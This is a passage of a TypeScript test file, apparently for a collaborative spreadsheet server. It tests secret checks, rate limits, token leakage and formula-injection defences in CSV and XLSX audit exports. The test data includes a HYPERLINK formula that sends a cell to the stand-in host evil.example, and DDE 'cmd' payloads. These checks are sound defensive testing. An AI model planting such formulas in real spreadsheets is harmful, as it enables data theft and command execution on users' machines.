    ownerTokens.set(id, made.json.token)
    const editor = await createLink(s, id, 'editor', '小李')
    const viewer = await createLink(s, id, 'viewer', '访客')
    const v = (await s.api('POST', `/api/workbooks/${id}/versions`, { name: 'v' })).json.id as string
    return { s, secret, id, owner: made.json.token as string, editor, viewer, v }
  }

  it('with a create secret: needs it as X-Create-Secret besides a writer link', async () => {
    const { s, secret, id, owner, editor, viewer, v } = await secretServer(1_000)
    const path = `/api/workbooks/${id}/versions/${v}/copy`
    expect((await call(s, 'POST', path, editor)).status).toBe(403)
    expect((await call(s, 'POST', path, editor, { headers: { 'x-create-secret': 'wrong' } })).status).toBe(403)
    expect((await call(s, 'POST', path, editor, { headers: { 'x-create-secret': '' } })).status).toBe(403)
    // (HTTP drops a header value's surrounding whitespace: the secret with a space after it is the secret)
    expect((await call(s, 'POST', path, editor, { headers: { 'x-create-secret': secret.slice(0, -1) } })).status).toBe(403)
    expect((await call(s, 'POST', path, editor, { headers: { 'x-create-secret': secret + 'x' } })).status).toBe(403)
    expect((await call(s, 'POST', path, editor, { headers: { 'x-create-secret': 'é'.repeat(4000) } })).status).toBe(403)
    // the secret in place of the link: no link
    expect((await call(s, 'POST', path, secret)).status).toBe(401)
    // a viewer with the secret: still a viewer
    expect((await call(s, 'POST', path, viewer, { headers: { 'x-create-secret': secret } })).status).toBe(403)
    expect((await call(s, 'POST', path, null, { headers: { 'x-create-secret': secret } })).status).toBe(401)
    expect((await call(s, 'POST', path, editor, { headers: { 'x-create-secret': secret } })).status).toBe(201)
    expect((await call(s, 'POST', path, owner, { headers: { 'x-create-secret': secret } })).status).toBe(201)
    await stillServing(s, id)
  })

  it('with a create secret: wrong secrets on POST /api/workbooks run into the failure budget (429)', async () => {
    const { s } = await secretServer(5)
    const statuses: number[] = []
    for (let i = 0; i < 10; i++) statuses.push((await call(s, 'POST', '/api/workbooks', `wrong-secret-${i}-xxxxxxxxxxxx`, { body: {} })).status)
    expect(statuses).toContain(429)
  })

  it('counts wrong X-Create-Secret values on …/copy against the failure budget (429), so no editor can guess the create secret', async () => {
    const { s, id, editor, v } = await secretServer(5)
    const statuses: number[] = []
    for (let i = 0; i < 40; i++) {
      statuses.push((await call(s, 'POST', `/api/workbooks/${id}/versions/${v}/copy`, editor, { headers: { 'x-create-secret': `guess-${i}` } })).status)
    }
    // POST /api/workbooks answers 429 after 5 wrong secrets; the copy route should too
    expect(statuses).toContain(429)
  })
})

// ── the audit export: formula injection, and no tokens ───────────────────────────────────────────

describe('audit exports', () => {
  const hostileNames = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '@SUM(1+1)', '+cmd|\' /C calc\'!A0', '-2+3']
  const hostileValues = ['=1+1', '+1+1', '-1+2', '@A1', '\t=1+1', '\r=1+1', "=cmd|' /C calc'!A0"]

  async function hostileTrail() {
    const s = await server()
    const audit = auditWatch(s)
    const id = await createWorkbook(s, { name: '=owner()' })
    const owner = await client(s, id)
    const sid = sheetOf(owner)
    let expectEntries = 0
    for (const [i, name] of hostileNames.entries()) {
      const c = await client(s, id, await createLink(s, id, 'editor', name))
      const seen = audit.count
      put(c.doc, sid, `A${i + 1}`, hostileValues[i % hostileValues.length])
      await audit.atLeast(seen + 1)
      expectEntries++
    }
    const seen = audit.count
    hostileValues.forEach((v, i) => put(owner.doc, sid, `B${i + 1}`, v))
    type(owner.doc, sid, 'C1', '=SUM(1,2)')
    await audit.atLeast(seen + hostileValues.length + 1)
    return { s, id, sid, expectEntries }
  }

  it('neutralises cells that start with = + - @ tab or CR in the CSV', async () => {
    const { s, id } = await hostileTrail()
    const r = await call(s, 'GET', `/api/workbooks/${id}/audit?format=csv`, ownerTokens.get(id)!)
    expect(r.status).toBe(200)
    expect(r.headers.get('content-type')).toMatch(/text\/csv/)
    expect(r.headers.get('content-disposition')).toMatch(/^attachment;/)
    const rows = parseCsv(r.text)
    expect(rows[0]).toEqual(['#', 'time', 'by', 'role', 'action', 'sheet', 'cell', 'before', 'after', 'detail', 'hash'])
    const dangerous = rows.flat().filter(f => /^[=+\-@\t\r]/.test(f))
    expect(dangerous).toEqual([])
    const fields = new Set(rows.flat())
    for (const n of hostileNames) expect(fields).toContain(`'${n}`)
    for (const v of hostileValues) expect(fields).toContain(`'${v}`)
    expect(fields).toContain("'=SUM(1,2)")
    await stillServing(s, id)
  })

  it('writes every audit cell of the XLSX as a value, none as a formula', async () => {
    const { s, id } = await hostileTrail()
    const r = await call(s, 'GET', `/api/workbooks/${id}/audit?format=xlsx`, ownerTokens.get(id)!)
    expect(r.status).toBe(200)
    const files = unzipped(r.buf)
    const sheetXml = Object.entries(files).filter(([k]) => /^xl\/worksheets\/sheet\d+\.xml$/.test(k)).map(([, v]) => v).join('')
    expect(sheetXml).not.toMatch(/<f[ >]/)
    const wb = new ExcelJS.Workbook()
    await wb.xlsx.load(r.buf as never)
    const ws = wb.getWorksheet('audit')!
    const texts = new Set<string>()
    ws.eachRow(row => row.eachCell(cell => {
      expect(cell.type).not.toBe(ExcelJS.ValueType.Formula)
      expect(cell.formula).toBeFalsy()
      // (XML reads a CR back as a line feed)
      if (typeof cell.value === 'string') texts.add(cell.value.replace(/\r\n?/g, '\n'))
    }))
    for (const n of hostileNames) expect(texts).toContain(n)
    for (const v of hostileValues) expect(texts).toContain(v.replace(/\r\n?/g, '\n'))
    expect(texts).toContain('=SUM(1,2)')
    await stillServing(s, id)
  })

  it('never holds a share-link token: links made and revoked, sockets, exports, restores and copies with ?token=', async () => {
    const f = await fixture()
    const { s, audit, id, owner, editor, viewer, revoked, v1, sid, ownerClient } = f
    const tokens = [owner, editor, viewer, revoked, f.other]
    const made = await s.api('POST', `/api/workbooks/${id}/links`, { role: 'owner', name: 'second owner' })
    tokens.push(made.json.token)
    expect((await s.api('DELETE', `/api/workbooks/${id}/links/${made.json.id}`)).status).toBe(200)
    const ed = await client(s, id, editor)
    const seen = audit.count
    type(ed.doc, sid, 'D4', 'by the editor')
    await audit.atLeast(seen + 1)
    expect((await call(s, 'GET', `/api/workbooks/${id}/export.json?token=${viewer}`, null)).status).toBe(200)
    expect((await call(s, 'GET', `/api/workbooks/${id}/export.csv?token=${editor}`, null)).status).toBe(200)
    expect((await call(s, 'POST', `/api/workbooks/${id}/versions/${v1}/restore?token=${editor}`, null, { body: {} })).status).toBe(200)
    const copy = await call(s, 'POST', `/api/workbooks/${id}/versions/${v1}/copy?token=${editor}`, null)
    expect(copy.status).toBe(201)
    tokens.push(copy.json.token)
    type(ownerClient.doc, sid, 'E5', 'last')
    await s.rooms.flushAll()
    const W = `/api/workbooks/${id}`
    const bodies = [
      (await call(s, 'GET', `${W}/audit?limit=10000`, owner)).text,
      (await call(s, 'GET', `${W}/audit?format=csv`, owner)).text,
      unzipped((await call(s, 'GET', `${W}/audit?format=xlsx`, owner)).buf),
      (await call(s, 'GET', `${W}/versions`, owner)).text,
      (await call(s, 'GET', `${W}/diff?from=${v1}`, owner)).text,
      (await call(s, 'GET', `${W}/export.json?since=${v1}`, owner)).text,
    ].map(b => (typeof b === 'string' ? b : JSON.stringify(b)))
    const entries = (await call(s, 'GET', `${W}/audit?limit=10000`, owner)).json as unknown[]
    expect(entries.length).toBeGreaterThan(5)
    for (const t of tokens) for (const [i, b] of bodies.entries()) expect(b.includes(t), `token found in response #${i}`).toBe(false)
    await stillServing(s, id)
  })
})

// ── PostgreSQL ────────────────────────────────────────────────────────────────────────────────────

describe('hostile audit queries on PostgreSQL', () => {
  async function pgFixture() {
    const p = await freshPostgres()
    cleanups.push(p.drop)
    const s = await server({ store: p.store })
    const audit = auditWatch(s)
    const id = await createWorkbook(s, { name: '老板' })
    const owner = await client(s, id)
    type(owner.doc, sheetOf(owner), 'A1', '1')
    await audit.atLeast(1)
    return { s, id, token: ownerTokens.get(id)! }
  }

  it('answers the values SQLite takes (since at the edge of safe integers, limit 10000) alike', async () => {
    const { s, id, token } = await pgFixture()
    for (const q of ['since=9007199254740991', 'limit=10000', 'after=2147483647', 'since=0']) {
      const r = await call(s, 'GET', `/api/workbooks/${id}/audit?${q}`, token)
      expect(`${q} → ${r.status}`).toBe(`${q} → 200`)
    }
    await stillServing(s, id)
  })

  it('answers after= beyond a 32-bit entry number (after=3000000000) with 400 on PostgreSQL, as on SQLite', async () => {
    const { s, id, token } = await pgFixture()
    const r = await call(s, 'GET', `/api/workbooks/${id}/audit?after=3000000000`, token)
    expect(r.status).toBe(400)
    expect(r.json.error).toContain('after')
  })

  it('answers by= with a NUL character (by=%00) with 400 on PostgreSQL, as on SQLite', async () => {
    const { s, id, token } = await pgFixture()
    const r = await call(s, 'GET', `/api/workbooks/${id}/audit?by=%00`, token)
    expect(r.status).toBe(400)
    expect(r.json.error).toContain('by')
  })
})
